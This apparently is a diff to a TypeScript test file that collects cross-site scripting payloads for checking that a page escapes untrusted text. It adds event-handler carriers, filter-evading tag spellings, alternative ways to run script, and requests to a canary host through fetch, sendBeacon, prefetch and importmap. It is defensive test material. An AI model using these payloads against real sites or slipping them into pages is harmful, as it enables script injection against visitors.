@@ -1,8 +1,82 @@
+/** Elements that run something by themselves, and the event by which they do. */
+const carriers: readonly (readonly [tag: string, beside: string, event: string])[] = [
+  ['img', 'src=x', 'onerror'],
+  ['svg', '', 'onload'],
+  ['video', 'src=x', 'onerror'],
+  ['iframe', '', 'onload'],
+  ['style', '', 'onload'],
+  ['details', 'open', 'ontoggle'],
+  ['input', 'autofocus', 'onfocus'],
+  ['object', 'data=x:', 'onerror'],
+]
+
+/** How a tag can be written so that browsers take it for one, and filters of words do not. */
+const spellings: readonly ((tag: string, beside: string, event: string) => string)[] = [
+  (tag, beside, event) => `<${tag.toUpperCase()} ${beside} ${event.toUpperCase()}=ran()>`,
+  (tag, beside, event) => `<${tag}/${beside.replace(/=(.*)/, '="$1"')}/${event}="ran()"//>`,
+  (tag, beside, event) => `<${tag}\t${beside}\t${event}\t=\tran()\t>`,
+  (tag, beside, event) => `<${tag}\n${beside}\n${event}\n=\nran()\n>`,
+  (tag, beside, event) => `<${tag} ${beside} ${event}='ran()'>`,
+  (tag, beside, event) => `<${tag} ${beside} ${event}=&#114;&#x61;n&lpar;&rpar;>`,
+  (tag, beside, event) => `<${tag} ${beside} ${event}=ran\`\`>`,
+  (tag, beside, event) => `<${tag} =" ${beside} ${event}=ran() x=" >`,
+  (tag, beside, event) => `<${tag} ${beside} ${event}=ran() ${event}=x>`,
+  (tag, beside, event) => `<<${tag} x='>' ${beside} ${event}="ran()" <b>`,
+]
+
 /**
  * Texts that do harm where a page does not escape them: they call `ran`, or fetch something from
  * `canary.invalid`. By kind, so that it is seen which kinds are there.
  */
 export const payloads: Readonly<Record<string, readonly string[]>> = {
+  spellings: carriers.flatMap((carrier) => spellings.map((spell) => spell(...carrier))),
+  'ways to run': [
+    '<svg onload=alert(1)>',
+    "<svg onload=window['r'+'an']()>",
+    "<svg onload=(0,eval)('ran()')>",
+    "<svg onload=Function('ran()')()>",
+    "<svg onload=setTimeout('ran()')>",
+    '<svg onload=top.ran()>',
+    "<svg onload=import('data:text/javascript,ran()')>",
+    "<svg onload=fetch('https://canary.invalid/')>",
+    "<svg onload=navigator.sendBeacon('https://canary.invalid/')>",
+    '<svg onload=new(Image)().src="https://canary.invalid/">',
+    '<svg onload="location=\'javascript:ran()\'">',
+    '<svg onload="document.write(\'<script>ran()</script>\')">',
+    '<svg onload="document.body.innerHTML=\'<img src=x onerror=ran()>\'">',
+    "<svg onload=console.log('ran')>",
+    '<script>{onerror=ran}throw 1</script>',
+    '<script>[1].map(ran)</script>',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is one on purpose
+    '<script>`${ran()}`</script>',
+    '<script>window.name="x";ran()</script>',
+  ],
+  'more events of elements': [
+    '<img src=/icon.svg onload=ran()>',
+    '<img srcset=x onerror=ran()>',
+    '<input type=image src=x onerror=ran()>',
+    '<video autoplay onloadstart=ran() src=x>',
+    '<audio src=x onloadstart=ran()>',
+    '<object data=/icon.svg onload=ran()></object>',
+    '<embed src=/icon.svg onload=ran()>',
+    '<link rel=preload as=image href=/icon.svg onload=ran()>',
+    '<svg><style onload=ran()></style></svg>',
+    '<svg><image href=/icon.svg onload=ran()></svg>',
+    '<svg><animate onend=ran() attributeName=x dur=1ms></svg>',
+    '<svg><animateTransform onbegin=ran() attributeName=transform dur=1s></svg>',
+    '<svg><animateMotion onbegin=ran() dur=1s></svg>',
+    '<svg tabindex=1 autofocus onfocus=ran()>',
+    '<math tabindex=1 autofocus onfocus=ran()>x</math>',
+    '<a href=# autofocus onfocus=ran()>x</a>',
+    '<p contenteditable autofocus onfocus=ran()>x</p>',
+    '<p tabindex=1 autofocus onfocusin=ran()>x</p>',
+    '<video controls autofocus onfocus=ran()></video>',
+    '<body onpageshow=ran()>',
+    '<dialog open oncancel=ran()>x</dialog>',
+    '<form onsubmit=ran()><button>x</button></form>',
+    '<b oncopy=ran() onwheel=ran() oncontextmenu=ran()>x</b>',
+    '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=ran()>x</p>',
+  ],
   scripts: [
     '<script>ran()</script>',
     '<SCRIPT>ran()</SCRIPT>',
@@ -13,7 +87,6 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
     '<script src="data:text/javascript,ran()"></script>',
     '<scr<script>ipt>ran()</scr</script>ipt>',
     '<<script>ran();//<</script>',
-    '<script>ran()',
   ],
   'events of elements': [
     '<img src=x onerror=ran()>',
@@ -118,6 +191,12 @@ export const payloads: Readonly<Record<string, readonly string[]>> = {
     '<base href="https://canary.invalid/">',
     '<link rel=stylesheet href=https://canary.invalid/a.css>',
     '<link rel=preload as=image href=https://canary.invalid/a.png>',
+    '<link rel=prefetch href=https://canary.invalid/>',
+    '<link rel=modulepreload href=https://canary.invalid/a.js>',
+    '<link rel=manifest href=https://canary.invalid/a.json>',
+    '<link rel=prerender href=https://canary.invalid/>',
+    '<script type=speculationrules>{"prerender":[{"urls":["https://canary.invalid/"]}]}</script>',
+    '<script type=importmap>{"imports":{"a":"https://canary.invalid/a.js"}}</script>',
     '<form action="javascript:ran()"><button autofocus>x</button></form>',
     '<form id=f action=https://canary.invalid/></form><button form=f>x</button>',
     '<dialog open><button formaction="javascript:ran()">x</button></dialog>',
@@ -189,6 +268,7 @@ export const elsewhere: readonly string[] = [
   "' autofocus tabindex=1 onfocus='ran()",
   "' onmouseover='ran()' x='",
   '<!--<script>',
+  '<script>ran()',
   '<![CDATA[<img src=x onerror=ran()>]]>',
   '<!--<script></script><img src=x onerror=ran()>',
   '\\u003c/script\\u003e\\u003cscript\\u003eran()',
